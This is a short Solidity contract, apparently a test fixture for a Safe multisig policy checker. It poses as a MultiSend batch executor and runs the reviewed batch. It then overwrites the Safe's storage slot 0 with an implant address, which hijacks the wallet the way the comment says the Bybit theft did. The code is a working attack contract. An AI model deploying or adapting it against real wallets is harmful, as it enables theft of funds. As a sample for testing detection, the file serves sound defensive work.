// SPDX-License-Identifier: MIT
pragma solidity 0.8.28;

/// effects-bybit-slot0: a "MultiSend" that a careless policy allowlisted. Its
/// multiSend(bytes) runs the batch exactly as Safe's MultiSendCallOnly does
/// (it delegatecalls it), so the calldata, once unpacked, is the reviewed batch;
/// then, still in the Safe's storage, it writes slot 0: the Safe's singleton,
/// as the contract behind the Feb 2025 Bybit theft did.
contract BatchExecutor {
    address public immutable multiSendCallOnly;
    address public immutable implant;

    constructor(address multiSendCallOnly_, address implant_) {
        multiSendCallOnly = multiSendCallOnly_;
        implant = implant_;
    }

    function multiSend(bytes memory) external payable {
        (bool ok, ) = multiSendCallOnly.delegatecall(msg.data);
        require(ok, "batch failed");
        address to = implant;
        assembly {
            sstore(0, to)
        }
    }
}
